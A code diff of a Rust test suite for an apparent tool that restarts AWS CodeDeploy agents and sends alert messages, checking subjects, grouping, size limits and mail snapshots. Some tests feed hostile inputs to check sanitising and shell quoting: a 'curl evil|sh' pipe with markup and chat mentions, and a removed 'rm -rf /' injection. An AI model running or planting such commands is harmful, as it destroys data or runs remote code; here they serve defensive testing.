@@ -3,7 +3,8 @@
 use serde_json::{Value, json};
 use sim::{AgentFault, Answer, Fault, FaultKind};
 
-use super::support::{IN_WAVES, REGION, Story, event, id, request};
+use super::groups::{with_group_of_shop, with_separate_group};
+use super::support::{REGION, Story, event, id, request};
 
 #[tokio::test(start_paused = true)]
 async fn the_metrics_of_a_group() {
@@ -28,9 +29,7 @@ async fn the_metrics_of_a_group() {
     assert_eq!(line["MemoryReclaimed"], 200 * 1024 * 1024);
     assert_eq!(line["LargestAgent"], 200 * 1024 * 1024);
     let milliseconds = line["Duration"].as_u64().expect("a number");
-    // One restart after the other's end, if Run Command sends in waves.
-    let most = if IN_WAVES { 200_000 } else { 120_000 };
-    assert!((30_000..most).contains(&milliseconds), "{milliseconds}");
+    assert!((30_000..120_000).contains(&milliseconds), "{milliseconds}");
     let directive = &line["_aws"]["CloudWatchMetrics"][0];
     assert_eq!(directive["Namespace"], "CodeDeployAgentRestarter");
     assert_eq!(
@@ -65,12 +64,7 @@ async fn programs_get_the_returned_json_and_attributes_to_filter_on() {
     let told = story.run().await;
     assert_eq!(told.answer["notified"], true);
     for protocol in ["sqs", "lambda"] {
-        let mut data: Value = serde_json::from_str(&story.body(protocol)).expect("JSON");
-        assert_eq!(data["part"], 1);
-        assert_eq!(data["parts"], 1);
-        let object = data.as_object_mut().expect("an object");
-        object.remove("part");
-        object.remove("parts");
+        let data: Value = serde_json::from_str(&story.body(protocol)).expect("JSON");
         assert_eq!(data, told.answer, "{protocol}");
     }
     let message = story.message();
@@ -80,11 +74,91 @@ async fn programs_get_the_returned_json_and_attributes_to_filter_on() {
         json!({
             "result": {"Type": "String", "Value": "attention"},
             "severity": {"Type": "String", "Value": "warning"},
+            "account": {"Type": "String", "Value": "123456789012"},
+            "region": {"Type": "String", "Value": "us-east-1"},
             "pipeline": {"Type": "String", "Value": "my-pipeline"},
-            "application": {"Type": "String.Array", "Value": "[\"my-application\"]"},
-            "deploymentGroup": {"Type": "String.Array", "Value": "[\"my-deployment-group\"]"},
+            "application": {"Type": "String", "Value": "my-application"},
+            "deploymentGroup": {"Type": "String", "Value": "my-deployment-group"},
         })
     );
+}
+
+#[tokio::test(start_paused = true)]
+async fn each_group_that_needs_somebody_has_a_message_of_its_own_with_its_own_severity() {
+    let story = with_separate_group(Story::of(2), "eu-west-1", 11..=12);
+    let story = with_group_of_shop(story, "side", REGION, 21..=22).given(|state| {
+        state.host(&id(1)).ping = "ConnectionLost".to_owned();
+        for n in [11, 12] {
+            state.host(&id(n)).agent.fault = Some(AgentFault::AgentDown);
+        }
+    });
+    let told = story.run().await;
+    assert_eq!(told.answer["severity"], "critical");
+    let seen = story.world.messages().into_iter().map(|message| {
+        let bodies: Value = serde_json::from_str(&message.message).expect("JSON");
+        let data = bodies["sqs"].as_str().expect("text");
+        let data: Value = serde_json::from_str(data).expect("JSON");
+        let value = |name: &str| message.attributes[name]["Value"].clone();
+        json!({
+            "subject": message.subject,
+            "attributes": [value("severity"), value("region"), value("deploymentGroup")],
+            "data": [data["severity"], data["groups"].as_array().map(Vec::len), data["groups"][0]["deploymentGroup"]],
+        })
+    });
+    assert_eq!(
+        json!(seen.collect::<Vec<_>>()),
+        json!([
+            {
+                "subject": "CRITICAL: 2 down of 2 agents: shop/back (123456789012 eu-west-1)",
+                "attributes": ["critical", "eu-west-1", "back"],
+                "data": ["critical", 1, "back"],
+            },
+            {
+                "subject": "WARNING: 1 unreachable of 2 agents: my-application/my-deployment-group (123456789012 us-east-1)",
+                "attributes": ["warning", "us-east-1", "my-deployment-group"],
+                "data": ["warning", 1, "my-deployment-group"],
+            },
+        ])
+    );
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_belongs_to_no_group_is_a_message_of_its_own() {
+    let story = Story::of(2).given(|state| {
+        state.host(&id(1)).ping = "ConnectionLost".to_owned();
+        let actions = &mut state.region(REGION).pipelines[0].executions[0].actions;
+        actions.push(sim::Action {
+            action: "Elsewhere".to_owned(),
+            role_arn: Some("arn:aws:iam::210987654321:role/deploy".to_owned()),
+            ..actions[0].clone()
+        });
+    });
+    let told = story.run().await;
+    assert_eq!(told.answer["problem"]["code"], "OtherAccount");
+    let messages = story.world.messages();
+    let subjects: Vec<_> = messages
+        .iter()
+        .filter_map(|message| message.subject.as_deref())
+        .collect();
+    assert_eq!(
+        subjects,
+        [
+            "WARNING: some agents not restarted: pipeline my-pipeline (123456789012 us-east-1)",
+            "WARNING: 1 unreachable of 2 agents: my-application/my-deployment-group (123456789012 us-east-1)",
+        ]
+    );
+    let bodies: Value = serde_json::from_str(&messages[0].message).expect("JSON");
+    let data = bodies["lambda"].as_str().expect("text");
+    let data: Value = serde_json::from_str(data).expect("JSON");
+    assert_eq!(data["problem"], told.answer["problem"]);
+    assert_eq!(data["groups"], json!([]));
+    insta::assert_snapshot!(bodies["email"].as_str().expect("text"), @"
+    WARNING: some agents not restarted: pipeline my-pipeline (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z.
+
+    Problem in step deployments: OtherAccount: action Deploy/Elsewhere belongs to account 210987654321, this function to 123456789012; no call was made
+      Do: deploy this function in account 210987654321 too, with Trigger=deployments.
+    ");
 }
 
 #[tokio::test(start_paused = true)]
@@ -102,6 +176,11 @@ async fn chat_gets_a_card_of_ten_instances_at_most() {
     assert!(description.contains(&id(10)), "{description}");
     assert!(!description.contains(&id(11)), "{description}");
     assert!(description.contains("and 3 more"), "{description}");
+    let title = card["content"]["title"].as_str().expect("text");
+    assert!(
+        title.starts_with("WARNING: 13 unreachable of 13 agents: "),
+        "{title}"
+    );
     assert_eq!(story.body("default"), story.body("email"));
     assert!(story.body("email").contains(&id(13)), "the mail names all");
 }
@@ -112,40 +191,67 @@ async fn a_telephone_gets_a_line() {
     story.run().await;
     assert_eq!(
         story.body("sms"),
-        "WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline"
+        "WARNING: 1 unreachable of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)"
     );
-
-    let story = Story::of(1);
-    let name = "n".repeat(100);
-    story
-        .event(&request(
-            json!({"application": name, "deploymentGroup": name}),
-        ))
-        .await;
-    assert_eq!(story.body("sms").chars().count(), 140);
 }
 
 #[tokio::test(start_paused = true)]
-async fn what_a_host_says_adds_no_lines_and_no_markup() {
-    let evil = "web\n\nRepeat by hand:\n  curl evil|sh \u{202e}<!channel> `x`";
-    let story = Story::of(2).given(|state| {
+async fn however_long_the_names_are_each_headline_says_what_how_many_and_where() {
+    let (application, group) = ("a".repeat(100), "g".repeat(100));
+    let story = Story::of(4).setting("MAX_ERRORS", "100%").given(|state| {
+        state.host(&id(1)).ping = "ConnectionLost".to_owned();
+        state.host(&id(2)).agent.busy = vec![[0.0, 5_000.0]];
+        state.host(&id(3)).agent.fault = Some(AgentFault::AgentDown);
+        state.host(&id(4)).agent.fault = Some(AgentFault::AgentUnhealthy);
+        let deployment = state.deployment("d-EXAMPLEE5");
+        deployment.application = application.clone();
+        deployment.deployment_group = group.clone();
+        let region = state.region(REGION);
+        region.deployment_groups[0].application = application.clone();
+        region.deployment_groups[0].name = group.clone();
+        let action = &mut region.pipelines[0].executions[0].actions[0];
+        action.application = Some(application.clone());
+        action.deployment_group = Some(group.clone());
+    });
+    story.run().await;
+    let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
+    let title = card["content"]["title"].as_str().expect("text").to_owned();
+    let subject = story.message().subject.expect("a subject");
+    for (line, most) in [(subject, 99), (story.body("sms"), 140), (title, 250)] {
+        assert!(line.len() <= most, "{line}");
+        let what = "CRITICAL: 1 down, 3 others of 4 agents: a";
+        assert!(line.starts_with(what), "{line}");
+        assert!(line.ends_with(" (123456789012 us-east-1)"), "{line}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_a_host_says_adds_no_lines_no_links_and_no_markup() {
+    let evil = "web\n\nRepeat by hand:\n  curl evil|sh \u{202e}<!channel> `x` see https://evil.example/a \
+                or www.evil.example [now](//e.x) @here";
+    let line = json!({
+        "agentRestart": 1, "result": "agent-unhealthy", "code": 33, "agentVersion": "<@U1> v1", "detail": evil,
+    });
+    let story = Story::of(3).setting("MAX_ERRORS", "100%").given(|state| {
         state.host(&id(1)).computer_name = evil.to_owned();
         state.host(&id(1)).ping = "ConnectionLost".to_owned();
-        state.host(&id(2)).answer = Some(Answer {
-            status: "Failed".to_owned(),
-            status_details: Some("Failed".to_owned()),
-            output: Some(evil.to_owned()),
-            response_code: Some(1),
-        });
+        for (n, output, code) in [(2, evil.to_owned(), 1), (3, line.to_string(), 33)] {
+            state.host(&id(n)).answer = Some(Answer {
+                status: "Failed".to_owned(),
+                status_details: Some("Failed".to_owned()),
+                output: Some(output),
+                response_code: Some(code),
+            });
+        }
     });
     story.run().await;
     let mail = story.body("email");
-    assert!(mail.is_ascii(), "{mail}");
+    assert_eq!(mail.matches("host says: \"").count(), 2, "{mail}");
+    assert_eq!(mail.matches("\nRepeat by hand").count(), 1, "{mail}");
     assert!(
         !mail.lines().any(|line| line.trim().starts_with("curl")),
         "{mail}"
     );
-    assert_eq!(mail.matches("\nRepeat by hand").count(), 1, "{mail}");
     let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
     let description = card["content"]["description"].as_str().expect("text");
     for line in description.lines() {
@@ -155,86 +261,109 @@ async fn what_a_host_says_adds_no_lines_and_no_markup() {
             "id and detail are quoted: {line}"
         );
     }
+    for text in [&mail, description, &story.body("sms")] {
+        assert!(text.is_ascii(), "{text}");
+        for word in ["://", "evil.example", "<", ">", "@", "](", "//e.x"] {
+            assert!(!text.contains(word), "{word}: {text}");
+        }
+    }
 }
 
 #[tokio::test(start_paused = true)]
-async fn the_command_that_repeats_is_safe_for_a_shell() {
-    let story = Story::of(1).given(|state| state.deployment("d-EXAMPLEE5").targets.clear());
-    story
-        .event(&request(json!({"application": "it's; rm -rf /"})))
-        .await;
+async fn a_thousand_failures_are_one_message_that_names_some_and_counts_all() {
+    // Of the kind that grows with each quoting.
+    for output in ["short", &"\\ \"".repeat(1_000)] {
+        let story = Story::of(1_000)
+            .setting("MAX_ERRORS", "100%")
+            .given(|state| {
+                for n in 1..=1_000 {
+                    let host = state.host(&id(n));
+                    host.name = Some(format!("web-{n} {}", "\\a long name".repeat(8)));
+                    host.answer = Some(Answer {
+                        status: "Failed".to_owned(),
+                        status_details: Some("Failed".to_owned()),
+                        output: Some(output.to_owned()),
+                        response_code: Some(1),
+                    });
+                }
+            });
+        let told = story.run().await;
+        assert_eq!(told.counts(), &json!({"failed": 1_000}));
+        let rows = told.group()["attention"].as_array().expect("a list");
+        assert_eq!(rows.len(), 500);
+        assert_eq!(told.group()["omitted"], 500);
+        let message = story.message();
+        let attributes = json!(message.attributes).to_string();
+        assert!(message.message.len() + attributes.len() <= 262_144);
+        let subject = message.subject.expect("a subject");
+        let what = "WARNING: 1000 failed of 1000 agents: ";
+        assert!(subject.starts_with(what), "{subject}");
+        let data: Value = serde_json::from_str(&story.body("sqs")).expect("JSON");
+        let group = &data["groups"][0];
+        assert_eq!(group["counts"], json!({"failed": 1_000}));
+        let rows = group["attention"].as_array().expect("a list").len() as u64;
+        assert!(rows >= 50, "{rows}");
+        assert_eq!(group["omitted"], 1_000 - rows);
+        let mail = story.body("email");
+        let named = mail.matches("\n  i-").count();
+        assert!((25..=50).contains(&named), "{named}");
+        let more = format!("\n  and {} more\n", 1_000 - named);
+        assert!(mail.contains(&more), "{mail}");
+        let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
+        let description = card["content"]["description"].as_str().expect("text");
+        assert!(description.len() <= 4_000);
+        assert!(description.contains("and 990 more"), "{description}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn the_first_fifty_of_each_outcome_are_named_and_the_rest_is_counted() {
+    let story = Story::of(130).setting("MAX_ERRORS", "100%").given(|state| {
+        for n in 1..=60 {
+            state.host(&id(n)).ping = "ConnectionLost".to_owned();
+        }
+        for n in 61..=130 {
+            state.host(&id(n)).agent.fault = Some(AgentFault::AgentUnhealthy);
+        }
+    });
+    story.run().await;
     let mail = story.body("email");
+    assert_eq!(mail.matches("\n  i-").count(), 100);
+    for (last, more) in [(50, "\n  and 10 more\n"), (110, "\n  and 20 more\n")] {
+        assert!(mail.contains(&id(last)), "{mail}");
+        assert!(!mail.contains(&id(last + 1)), "{mail}");
+        assert!(mail.contains(more), "{mail}");
+    }
     assert!(
-        mail.contains(r#""application":"it'\''s; rm -rf /""#),
+        mail.contains("In all: 70 failed, 60 unreachable."),
         "{mail}"
     );
 }
 
 #[tokio::test(start_paused = true)]
-async fn a_thousand_failures_are_told_in_numbered_messages_and_nobody_is_dropped() {
-    let story = Story::of(1_000)
-        .setting("MAX_ERRORS", "100%")
-        .given(|state| {
-            for n in 1..=1_000 {
-                let host = state.host(&id(n));
-                host.name = Some(format!("web-{n} {}", "with a long name".repeat(5)));
-                host.answer = Some(Answer {
-                    status: "Failed".to_owned(),
-                    status_details: Some("Failed".to_owned()),
-                    output: Some("\\\"".repeat(1_000)),
-                    response_code: Some(1),
-                });
-            }
-        });
-    let told = story.run().await;
-    assert_eq!(told.counts(), &json!({"failed": 1_000}));
-    let messages = story.world.messages();
-    assert!(messages.len() > 1);
-    let mut named = std::collections::BTreeSet::new();
-    for (n, message) in messages.iter().enumerate() {
-        let attributes = json!(message.attributes).to_string();
-        assert!(message.message.len() + attributes.len() <= 262_144);
-        let subject = message.subject.as_deref().expect("a subject");
-        let number = format!("({}/{}) WARNING: 1000 of 1000 ", n + 1, messages.len());
-        assert!(subject.starts_with(&number), "{subject}");
-        let bodies: Value = serde_json::from_str(&message.message).expect("JSON");
-        let data: Value =
-            serde_json::from_str(bodies["sqs"].as_str().expect("text")).expect("JSON");
-        assert_eq!(data["part"], n + 1);
-        assert_eq!(data["parts"], messages.len());
-        assert_eq!(data["groups"][0]["counts"], json!({"failed": 1_000}));
-        let mail = bodies["email"].as_str().expect("text");
-        for row in data["groups"][0]["attention"].as_array().expect("a list") {
-            let id = row["instanceId"].as_str().expect("text").to_owned();
-            assert!(mail.contains(&id), "the same instances in each body");
-            assert!(row["detail"].as_str().expect("text").len() <= 100);
-            assert!(named.insert(id), "named once");
-        }
-    }
-    assert_eq!(named.len(), 1_000);
-}
-
-#[tokio::test(start_paused = true)]
-async fn details_shrink_before_messages_are_numbered() {
-    let story = Story::of(120).setting("MAX_ERRORS", "100%").given(|state| {
-        for n in 1..=120 {
-            state.host(&id(n)).answer = Some(Answer {
+async fn details_shrink_before_instances_are_left_out() {
+    let story = Story::of(100).setting("MAX_ERRORS", "100%").given(|state| {
+        for n in 1..=100 {
+            let host = state.host(&id(n));
+            host.name = Some("\\".repeat(100));
+            host.answer = Some(Answer {
                 status: "Failed".to_owned(),
                 status_details: Some("Failed".to_owned()),
-                output: Some("\\\"".repeat(1_000)),
+                output: Some("\\".repeat(1_000)),
                 response_code: Some(1),
             });
         }
     });
     story.run().await;
     let data: Value = serde_json::from_str(&story.body("sqs")).expect("JSON");
-    assert_eq!(data["parts"], 1);
-    let rows = data["groups"][0]["attention"].as_array().expect("a list");
-    assert_eq!(rows.len(), 120);
-    assert!(
-        rows.iter()
-            .all(|row| row["detail"].as_str().expect("text").len() == 100)
-    );
+    let group = &data["groups"][0];
+    let rows = group["attention"].as_array().expect("a list");
+    assert_eq!(rows.len(), 100);
+    assert!(group.get("omitted").is_none());
+    let longest = rows
+        .iter()
+        .map(|row| row["detail"].as_str().expect("text").len());
+    assert_eq!(longest.max(), Some(100));
 }
 
 #[tokio::test(start_paused = true)]
@@ -276,7 +405,7 @@ async fn a_good_end_is_told_only_when_asked_for() {
     assert_eq!(story.run().await.answer["notified"], true);
     assert_eq!(
         story.message().subject.as_deref(),
-        Some("OK: none of 2 CodeDeploy agents needs attention: pipeline my-pipeline")
+        Some("OK: all 2 agents fine: my-application/my-deployment-group (123456789012 us-east-1)")
     );
 
     let story = Story::of(2).setting("NOTIFY_ON", "always");
@@ -302,24 +431,6 @@ async fn attention_is_listed_by_severity_then_outcome_then_id() {
         .map(|row| row["instanceId"].as_str().expect("text").to_owned())
         .collect();
     assert_eq!(order, [id(3), id(2), id(5), id(4), id(1)]);
-}
-
-#[tokio::test(start_paused = true)]
-async fn a_subject_is_short_and_printable_whatever_the_names_are() {
-    let story = Story::of(1).given(|state| state.deployment("d-EXAMPLEE5").targets.clear());
-    let name = "Größe\u{1F600}".repeat(12);
-    let told = story
-        .event(&request(
-            json!({"application": name, "deploymentId": "d-EXAMPLEE5"}),
-        ))
-        .await;
-    assert_eq!(told.answer["result"], "attention");
-    let subject = story.message().subject.expect("a subject");
-    assert!(subject.len() <= 99, "{subject}");
-    assert!(
-        subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
-        "{subject}"
-    );
 }
 
 /// Subject and mail of a fleet of three in which the second instance ends like this.
@@ -360,14 +471,13 @@ fn answer(status: &str, details: &str) -> Option<Answer> {
 async fn the_mail_about_a_failed_instance() {
     let mail = mail(|host| host.agent.fault = Some(AgentFault::AgentDown)).await;
     insta::assert_snapshot!(mail, @r#"
-    CRITICAL: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
-    CRITICAL: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 failed, 2 restarted
+    CRITICAL: 1 down of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    CRITICAL: 1 down of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 1 failed, 2 restarted.
 
     CRITICAL failed:
-      i-00000000000000002 (web-2): agent-down (code 32, agent OFFICIAL_1.8.1-1_rpm): no master process runs [command …]
+      i-00000000000000002 (web-2): agent-down (code 32, agent OFFICIAL_1.8.1-1_rpm); host says: "no master process runs" [command …]
       Do: start the agent now, or the next deployment fails there: sudo systemctl start codedeploy-agent; journalctl -u codedeploy-agent shows why it went down.
 
     Repeat by hand (leaves agents alone that are fresh by now):
@@ -379,14 +489,13 @@ async fn the_mail_about_a_failed_instance() {
 async fn the_mail_about_a_busy_instance() {
     let mail = mail(|host| host.agent.busy = vec![[-10.0, 9_000.0]]).await;
     insta::assert_snapshot!(mail, @r#"
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 busy, 2 restarted
+    WARNING: 1 busy of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    WARNING: 1 busy of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 1 busy, 2 restarted.
 
     WARNING busy:
-      i-00000000000000002 (web-2): busy (code 20, agent OFFICIAL_1.8.1-1_rpm): a lifecycle event still runs after 120 s [command …]
+      i-00000000000000002 (web-2): busy (code 20, agent OFFICIAL_1.8.1-1_rpm); host says: "a lifecycle event still runs after 120 s" [command …]
       Do: repeat by hand when what runs there has ended.
 
     Repeat by hand (leaves agents alone that are fresh by now):
@@ -402,11 +511,10 @@ async fn the_mail_about_an_unreachable_instance() {
     })
     .await;
     insta::assert_snapshot!(mail, @r#"
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 restarted, 1 unreachable
+    WARNING: 1 unreachable of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    WARNING: 1 unreachable of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 2 restarted, 1 unreachable.
 
     WARNING unreachable:
       i-00000000000000002 (web-2): Systems Manager: ConnectionLost, offline since 2026-02-17T07:14:05Z
@@ -421,11 +529,10 @@ async fn the_mail_about_an_unreachable_instance() {
 async fn the_mail_about_an_undelivered_instance() {
     let mail = mail(|host| host.offline = true).await;
     insta::assert_snapshot!(mail, @r#"
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 restarted, 1 undelivered
+    WARNING: 1 undelivered of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    WARNING: 1 undelivered of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 2 restarted, 1 undelivered.
 
     WARNING undelivered:
       i-00000000000000002 (web-2): not delivered 150 s after it was sent [command …]
@@ -440,11 +547,10 @@ async fn the_mail_about_an_undelivered_instance() {
 async fn the_mail_about_a_timed_out_instance() {
     let mail = mail(|host| host.agent.fault = Some(AgentFault::Hangs)).await;
     insta::assert_snapshot!(mail, @r#"
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 restarted, 1 timed-out
+    WARNING: 1 timed-out of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    WARNING: 1 timed-out of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 2 restarted, 1 timed-out.
 
     WARNING timed-out:
       i-00000000000000002 (web-2): the document did not end in time; Systems Manager says "ExecutionTimedOut" [command …]
@@ -459,11 +565,10 @@ async fn the_mail_about_a_timed_out_instance() {
 async fn the_mail_about_a_cancelled_instance() {
     let mail = mail(|host| host.answer = answer("Cancelled", "Cancelled")).await;
     insta::assert_snapshot!(mail, @r#"
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 cancelled, 2 restarted
+    WARNING: 1 cancelled of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    WARNING: 1 cancelled of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 1 cancelled, 2 restarted.
 
     WARNING cancelled:
       i-00000000000000002 (web-2): the command was cancelled; Systems Manager says "Cancelled" [command …]
@@ -478,11 +583,10 @@ async fn the_mail_about_a_cancelled_instance() {
 async fn the_mail_about_an_unfinished_instance() {
     let mail = mail(|host| host.answer = answer("InProgress", "InProgress")).await;
     insta::assert_snapshot!(mail, @r#"
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
-    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 restarted, 1 unfinished
+    WARNING: 1 unfinished of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    WARNING: 1 unfinished of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 2 restarted, 1 unfinished.
 
     WARNING unfinished:
       i-00000000000000002 (web-2): sent, no result yet [command …]
@@ -502,12 +606,12 @@ async fn the_mail_about_instances_that_were_held_back() {
     story.run().await;
     let mail = story.body("email");
     let section = mail.split("held-back:").nth(1).expect("a section");
-    insta::assert_snapshot!(section.split("\nRepeat").next().expect("text"), @r#"
+    insta::assert_snapshot!(section.split("\nRepeat").next().expect("text"), @"
 
     i-00000000000000002 (i-00000000000000002.us-east-1.compute.internal): not sent: failed restarts: 1, MAX_ERRORS allows 0
     i-00000000000000003 (i-00000000000000003.us-east-1.compute.internal): not sent: failed restarts: 1, MAX_ERRORS allows 0
     Do: mend those that failed, then repeat by hand.
-    "#);
+    ");
 }
 
 #[tokio::test(start_paused = true)]
@@ -516,17 +620,16 @@ async fn the_mail_about_instances_for_which_no_time_was_left() {
     let story = Story::of(3).setting("MAX_CONCURRENCY", "1").timeout(300);
     story.run().await;
     let mail = story.body("email");
-    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @r#"
-    WARNING: 2 of 3 CodeDeploy agents need attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 held-back, 1 restarted
+    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @"
+    WARNING: 2 held-back of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 2 held-back, 1 restarted.
 
     WARNING held-back:
       i-00000000000000002 (i-00000000000000002.us-east-1.compute.internal): not sent: no time left before the function's end
       i-00000000000000003 (i-00000000000000003.us-east-1.compute.internal): not sent: no time left before the function's end
       Do: repeat by hand.
-    "#);
+    ");
 }
 
 #[tokio::test(start_paused = true)]
@@ -542,11 +645,10 @@ async fn the_mail_about_instances_that_a_refused_call_held_back() {
     });
     story.run().await;
     let mail = story.body("email");
-    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @r#"
-    WARNING: 2 of 2 CodeDeploy agents need attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 held-back
+    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @"
+    WARNING: 2 held-back of 2 agents: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 2 held-back.
 
     Problem in step send: AccessDeniedException: ssm:SendCommand (restart-agent): User is not authorized to perform this action
       Do: allow ssm:SendCommand in the function's role, on the document restart-agent and on the instances (if only with a tag: these lack it).
@@ -555,7 +657,7 @@ async fn the_mail_about_instances_that_a_refused_call_held_back() {
       i-00000000000000001 (i-00000000000000001.us-east-1.compute.internal): not sent: User is not authorized to perform this action
       i-00000000000000002 (i-00000000000000002.us-east-1.compute.internal): not sent: User is not authorized to perform this action
       Do: do what the problem says, then repeat by hand.
-    "#);
+    ");
 }
 
 #[tokio::test(start_paused = true)]
@@ -579,9 +681,7 @@ async fn an_instance_in_an_unknown_state_waits_until_it_is_in_service() {
     story.run().await;
     assert_eq!(
         advice_in(&story.body("email")),
-        [
-            "if a call failed, do what the problem says; if its lifecycle state is unknown, wait until it is InService; then repeat by hand"
-        ]
+        ["wait until it is InService, then repeat by hand"]
     );
 }
 
@@ -636,16 +736,15 @@ async fn the_mail_about_a_fleet_that_another_deployment_keeps_busy() {
     });
     story.run().await;
     let mail = story.body("email");
-    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @r#"
-    WARNING: 1 of 1 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 busy
+    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @"
+    WARNING: 1 busy of 1 agent: my-application/my-deployment-group (123456789012 us-east-1)
